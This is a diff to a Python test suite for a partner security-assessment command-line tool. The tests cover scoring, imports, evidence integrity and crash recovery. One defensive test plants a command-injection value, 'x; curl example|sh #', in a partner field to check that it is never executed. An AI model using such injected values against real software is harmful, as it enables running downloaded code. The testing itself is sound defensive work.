@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import shutil
+import subprocess
+import sys
 from fractions import Fraction
 from pathlib import Path
 
 import pytest
 
 from assess.policies import SHIPPED
-from tests.program import Run, fill, runner
+from assess.store import load_submissions, open_store
+from tests.program import Run, fill, relabel, runner
 
 PERIOD = ("--period", "2026Q3", "--as-of", "2026-10-10")
 
@@ -90,13 +94,13 @@ def test_a_claim_of_not_applicable_gains_nothing_until_it_is_accepted(
     [claimed] = run("score", "--format", "json", *PERIOD).data
     assert claimed["counts"]["not_applicable_claimed"] == 1
     assert claimed["overall"] == 100.0
-    assert claimed["tier"]["score"] < 100.0
+    assert claimed["tier"]["decisive"] < 100.0
     words = ("review", "north-freight", "records.scan-signin", "--accept-na")
     done = run(*words, "--reason", "None on site, seen in the audit", "--by", "Assessor", *PERIOD)
     assert done.code == 0, done.err
     [accepted] = run("score", "--format", "json", *PERIOD).data
     assert accepted["counts"]["not_applicable_accepted"] == 1
-    assert accepted["tier"]["score"] == 100.0
+    assert accepted["tier"]["decisive"] == 100.0
 
 
 def test_a_review_of_an_answer_that_claims_nothing_is_refused(run: Run, workbook: Path) -> None:
@@ -125,7 +129,7 @@ def test_a_second_submission_supersedes_the_first_and_both_files_stay(
     shutil.copy(workbook, second)
     fill(second, {})
     done = run("import", second, "--format", "json", "--as-of", "2026-10-10")
-    assert [each["status"] for each in done.data["files"]] == ["superseded"]
+    assert [each["status"] for each in done.data["files"]] == ["supersedes"]
     assert run("score", "--format", "json", *PERIOD).data[0]["overall"] == 100.0
     assert len(list((home / "evidence").rglob("*.xlsx"))) == 2
 
@@ -184,8 +188,8 @@ def test_a_gap_report_comes_in_every_format(run: Run, workbook: Path, suffix: st
 def test_every_answer_short_of_the_best_is_a_gap(run: Run, workbook: Path) -> None:
     fill(workbook, {"encryption.at-rest": "None"}, rest="best")
     imported(run, workbook)
-    gaps = run("gaps", "north-freight", "--format", "json", *PERIOD).data
-    assert [gap["question"] for gap in gaps] == ["encryption.at-rest"]
+    report = run("gaps", "north-freight", "--format", "json", *PERIOD).data
+    assert [gap["question"] for gap in report["findings"]] == ["encryption.at-rest"]
 
 
 def test_explanations_add_up_to_the_score(run: Run, workbook: Path) -> None:
@@ -283,3 +287,150 @@ def test_what_a_partner_wrote_is_shown_as_text_and_not_as_markup(run: Run) -> No
 def test_control_characters_never_reach_the_terminal(run: Run) -> None:
     done = run("partner", "add", "red", "--name", "\x1b[31mRed", "--kind", "services")
     assert "\x1b" not in done.err + run("partner", "list").out
+
+
+def test_another_reason_for_the_same_claim_is_not_accepted_by_itself(
+    run: Run, workbook: Path
+) -> None:
+    question = "records.scan-signin"
+    fill(workbook, {question: "Not applicable"})
+    imported(run, workbook)
+    words = ("review", "north-freight", question, "--accept-na", "--reason", "Seen", "--by", "We")
+    run(*words, *PERIOD)
+    again = workbook.with_name("again.xlsx")
+    shutil.copy(workbook, again)
+    fill(again, {question: "Not applicable"}, reason="We would rather not say.")
+    imported(run, again)
+    [result] = run("score", "--format", "json", *PERIOD).data
+    assert result["counts"]["not_applicable_claimed"] == 1
+    assert result["counts"]["not_applicable_accepted"] == 0
+
+
+def test_a_gate_fails_where_nobody_has_answered(run: Run, workbook: Path) -> None:
+    imported(run, workbook)
+    silent = ("score", "--period", "2026Q4", "--fail-under", "60")
+    assert run(*silent).code == 10
+    assert run(*silent, "north-freight").code == 10
+
+
+def test_adding_a_partner_again_changes_only_what_is_given(run: Run, home: Path) -> None:
+    assert home.is_dir()
+    done = run("partner", "add", "north-freight", "--name", "North AG", "--kind", "logistics")
+    assert done.code == 0
+    profile = run("partner", "show", "north-freight", "--format", "json").data
+    assert profile["name"] == "North AG"
+    assert profile["data_classes"] == ["internal"]
+    assert profile["access"] == ["portal"]
+
+
+def test_a_workbook_relabelled_for_another_partner_is_refused(run: Run, workbook: Path) -> None:
+    run("partner", "add", "other", "--name", "Other", "--kind", "services")
+    relabel(workbook, partner="other")
+    done = run("import", workbook, "--format", "json", "--as-of", "2026-10-10")
+    assert done.code == 3
+    assert [p["code"] for p in done.data["files"][0]["problems"]] == ["file.damaged-meta"]
+
+
+@pytest.mark.parametrize("period", ["9999Q4", "0000Q1", "2031Q1"])
+def test_an_impossible_period_costs_only_its_own_file(
+    run: Run, workbook: Path, period: str
+) -> None:
+    broken = workbook.with_name("a-broken.xlsx")
+    shutil.copy(workbook, broken)
+    relabel(broken, period=period)
+    done = run("import", workbook.parent, "--format", "json", "--as-of", "2026-10-10")
+    assert done.code == 3
+    assert [each["status"] for each in done.data["files"]] == ["rejected", "imported"]
+
+
+def test_a_partner_in_a_file_is_never_put_into_a_command(run: Run, workbook: Path) -> None:
+    relabel(workbook, partner="x; curl example|sh #")
+    done = run("import", workbook, "--as-of", "2026-10-10")
+    assert done.code == 3
+    assert "partner add" not in done.err
+
+
+def test_two_files_for_one_partner_and_quarter_in_a_batch_are_remarked_on(
+    run: Run, workbook: Path
+) -> None:
+    second = workbook.with_name("north-freight-2026Q3-corrected.xlsx")
+    shutil.copy(workbook, second)
+    fill(second, {})
+    done = run("import", workbook.parent, "--format", "json", "--as-of", "2026-10-10")
+    notices = [[n["code"] for n in each["notices"]] for each in done.data["files"]]
+    assert notices == [[], ["file.second-in-batch"]]
+
+
+def test_a_changed_evidence_file_costs_only_its_own_file(
+    run: Run, home: Path, workbook: Path
+) -> None:
+    imported(run, workbook)
+    [kept] = (home / "evidence").rglob("*.xlsx")
+    kept.chmod(0o644)
+    kept.write_bytes(b"forged")
+    other = workbook.with_name("z.xlsx")
+    shutil.copy(workbook, other)
+    fill(other, {})
+    done = run("import", workbook.parent, "--format", "json", "--as-of", "2026-10-10")
+    assert done.code == 3
+    assert [each["status"] for each in done.data["files"]] == ["rejected", "supersedes"]
+
+
+def test_a_folder_that_merely_looks_like_a_library_is_none(
+    run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(Path(__file__).parents[1])
+    assert run("questionnaire", "list", "--format", "json").code == 0
+
+
+def test_a_reader_that_leaves_early_is_no_error() -> None:
+    program = "from assess.cli import main; main()"
+    command = f"{sys.executable} -c '{program}' questionnaire show partner-security"
+    shell = f"set -o pipefail; {command} | head -n 1"
+    done = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, check=False)
+    assert (done.returncode, done.stderr) == (0, "")
+
+
+@pytest.mark.slow
+def test_an_import_killed_half_way_goes_on_to_the_same_end(tmp_path: Path) -> None:
+    whole, killed = tmp_path / "whole", tmp_path / "killed"
+    for folder in (whole, killed):
+        assess("init", folder).wait()
+        assess("partner", "import", SAMPLE / "partners.csv", "--workspace", folder).wait()
+    words = ("import", SAMPLE / "returned" / "2026Q2", "--as-of", "2026-07-15", "--workspace")
+    assert assess(*words, whole).wait() == 0
+    stopped = 0
+    for tenths in (4, 5, 6, 7, 8):
+        process = assess(*words, killed)
+        try:
+            process.wait(tenths / 10)
+        except subprocess.TimeoutExpired:
+            process.kill()
+            stopped += 1
+            process.wait()
+        assert set(stored(killed)) <= set(stored(whole))
+    assert stopped
+    assert assess(*words, killed).wait() == 0
+    assert stored(killed) == stored(whole)
+
+
+SAMPLE = Path(__file__).parents[1] / "sample_data"
+
+
+def assess(*words: object) -> subprocess.Popen[bytes]:
+    """Start the program as a user does."""
+    command = [sys.executable, "-c", "from assess.cli import main; main()", *map(str, words)]
+    silent = subprocess.DEVNULL
+    return subprocess.Popen(command, stdout=silent, stderr=silent, cwd=SAMPLE.parent)
+
+
+def stored(home: Path) -> list[tuple[str, str, bytes]]:
+    """Return what is stored, each with its evidence whole."""
+    engine = open_store(f"sqlite:///{home / 'assess.db'}")
+    found = load_submissions(engine)
+    engine.dispose()
+    for each in found:
+        sha256 = each.submission.file_sha256
+        kept = home / "evidence" / sha256[:2] / f"{sha256}.xlsx"
+        assert hashlib.sha256(kept.read_bytes()).hexdigest() == sha256
+    return sorted((e.submission.partner, e.submission.file_sha256, e.codes) for e in found)
